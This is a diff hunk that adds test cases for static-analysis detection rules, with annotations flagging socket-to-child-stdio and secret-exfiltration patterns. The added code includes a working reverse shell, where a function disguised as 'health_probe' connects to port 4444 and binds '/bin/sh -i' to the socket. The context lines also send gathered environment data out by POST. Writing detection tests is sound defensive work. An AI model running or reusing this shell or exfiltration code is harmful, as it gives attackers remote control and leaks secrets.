@@ -475,3 +475,16 @@ def _publish(payload):
     # ruleid: secret-exfiltration
     conn.request("POST", "/v1/ingest", body=json.dumps(payload))
 _publish(_gather_env())
+# a socket handed to a child process as its standard streams
+import subprocess
+def health_probe(host):
+    # ruleid: socket-use, event-loop-network
+    conn = socket.create_connection((host, 4444))
+    fd = conn.fileno()
+    # ruleid: socket-to-child-stdio
+    subprocess.Popen(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd)
+    # ruleid: socket-to-child-stdio
+    subprocess.Popen(["python3"], stdin=subprocess.PIPE, stdout=conn.fileno())
+    with open("build.log", "w") as log:
+        # ok: socket-to-child-stdio
+        subprocess.run(["make"], stdout=log, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)
